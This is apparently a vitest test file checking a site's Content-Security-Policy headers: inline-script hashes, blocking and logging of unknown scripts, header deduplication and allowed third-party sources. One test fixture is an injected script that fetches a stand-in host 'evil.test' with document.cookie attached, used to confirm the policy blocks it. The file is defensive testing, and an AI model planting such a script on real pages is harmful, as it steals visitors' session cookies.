import { createHash } from 'node:crypto'
import { expect, test } from 'vitest'
import { thirdPartySources } from '#front/response/third-party-sources.ts'
import { fakeRenderer, page } from '#front/testing/fake-renderer.ts'
import { serveFront } from '#front/testing/serve-front.ts'

const own = '$RC("B:1","S:1")'
const hashOf = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`
const policyOf = (header: string | string[] | undefined) => String(header)

test('a page’s policy allows the framework’s inline scripts by hash, and no other inline script', async () => {
  const { render } = fakeRenderer(() =>
    page(`<script>${own}</script><script type="application/ld+json">{"a":1}</script>`),
  )
  const { sendRequest } = await serveFront({ renderer: render })
  const first = await sendRequest('/de')
  const hit = await sendRequest('/de')
  const policy = policyOf(hit.headers['content-security-policy'])

  expect(policy).toContain(`script-src 'self' ${hashOf(own)};`)
  expect(policy).toContain("style-src 'self';")
  expect(policy).not.toContain('unsafe')
  expect(policy).toBe(first.headers['content-security-policy'])
  expect(hit.headers['cache-status']).toBe('front; hit')
})

test('a page with an unknown script is sent with a policy that blocks it, is not cached, and is logged', async () => {
  const thirdParty = 'fetch("//evil.test?"+document.cookie)'
  const { render } = fakeRenderer(() =>
    page(`<script>${own}</script><SCRIPT data-x="1">${thirdParty}</SCRIPT>`),
  )
  const { sendRequest, logged } = await serveFront({ renderer: render })

  for (let round = 0; round < 2; round++) {
    const { headers } = await sendRequest('/de')
    const policy = policyOf(headers['content-security-policy'])
    expect(policy).toContain(hashOf(own))
    expect(policy).not.toContain(hashOf(thirdParty))
    expect(headers['cache-control']).toBe('private, no-store')
    expect(headers['cache-status']).toBe('front; fwd=bypass')
  }
  const warning = logged.find(({ msg }) => String(msg).includes('inline scripts'))
  expect(warning).toMatchObject({ scripts: [thirdParty] })
})

test('a header that the renderer writes twice is sent once', async () => {
  const preload = '</_next/static/media/archivo.woff2>; rel=preload; as="font"'
  const { render } = fakeRenderer(() =>
    page('', { headers: { ...page('').headers, link: [preload, preload] } }),
  )
  const { sendRequest } = await serveFront({ renderer: render })
  expect((await sendRequest('/de')).headers.link).toBe(preload)
})

test('third-party sources are only those that the site names', async () => {
  const { render } = fakeRenderer(() => page(''))
  const none: string[] = []
  const { sendRequest } = await serveFront({
    renderer: render,
    thirdParty: {
      script: none,
      connect: none,
      image: none,
      media: none,
      frame: ['https://player.example'],
    },
  })
  const policy = policyOf((await sendRequest('/de')).headers['content-security-policy'])
  expect(policy).toContain("frame-src 'self' https://player.example;")
  expect(policy.match(/https:/g)).toHaveLength(1)
})

test('M-06 pages may frame the players of the known providers, and use nothing else of theirs', async () => {
  const { render } = fakeRenderer(() => page(''))
  const { sendRequest } = await serveFront({ renderer: render, thirdParty: thirdPartySources({}) })
  const policy = policyOf((await sendRequest('/de')).headers['content-security-policy'])
  const frames = /frame-src ([^;]*)/.exec(policy)?.[1]?.split(' ') ?? []
  const { hostname: player } = new URL('https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ')
  expect(frames).toContain(`https://${player}`)
  expect(frames).toContain('https://share-eu1.hsforms.com')
  expect(frames.filter((source) => /^https?:?$|^\*|^https:\/\/\*\.?$/.test(source))).toEqual([])
  const others = policy.replace(/frame-src [^;]*;/, '')
  expect(others).not.toMatch(/https:/)
})

test('X-05 the policy allows the tag manager only where the theatre uses one', async () => {
  const { render } = fakeRenderer(() => page(''))
  const policies = await Promise.all(
    [{}, { tagManagerId: 'GTM-PROBE1' }].map(async (services) => {
      const { sendRequest } = await serveFront({
        renderer: render,
        thirdParty: thirdPartySources(services),
      })
      return policyOf((await sendRequest('/de')).headers['content-security-policy'])
    }),
  )
  expect(policies[0]).not.toMatch(/google/)
  expect(policies[1]).toMatch(/script-src 'self' https:\/\/www\.googletagmanager\.com;/)
  expect(policies[1]).toMatch(/connect-src 'self' [^;]*https:\/\/\*\.google-analytics\.com/)
  expect(policies[1]).not.toContain('unsafe')
})
